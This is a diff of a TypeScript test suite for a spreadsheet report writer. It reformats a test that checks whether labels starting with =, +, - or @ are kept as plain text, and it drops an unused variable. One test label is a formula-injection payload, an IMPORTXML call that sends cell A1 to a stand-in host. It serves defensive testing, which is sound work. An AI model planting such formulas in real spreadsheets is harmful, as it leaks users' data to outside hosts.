@@ -180,7 +180,12 @@ describe('replaceReport', () => {
   it('keeps labels starting with =, +, - or @ exactly as text, never formulas', () => {
     const { spreadsheet } = spreadsheetWithUserSheets()
     const report = fixtureReport()
-    const labels = ['=IMPORTXML("https://x.example/?"&A1, "//a")', '+7 701 000 00 00', '-', '@everyone']
+    const labels = [
+      '=IMPORTXML("https://x.example/?"&A1, "//a")',
+      '+7 701 000 00 00',
+      '-',
+      '@everyone',
+    ]
     const rating = report.tables[0]
     rating.rows = labels.map((service, i) => ({ ...rating.rows[0], service, rank: i + 1 }))
     replaceReport(appsScriptPlatform().workbook, buildSheets(report, { generatedAt: '' }), 'r')
@@ -194,7 +199,7 @@ describe('replaceReport', () => {
 
   it('writes the sheets with calls that do not grow with their rows', () => {
     const count = (rows: number) => {
-      const { spreadsheet, log } = spreadsheetWithUserSheets()
+      const { log } = spreadsheetWithUserSheets()
       const report = fixtureReport()
       const rating = report.tables[0]
       rating.rows = Array.from({ length: rows }, (_, i) => ({ ...rating.rows[i % 4], rank: i + 1 }))
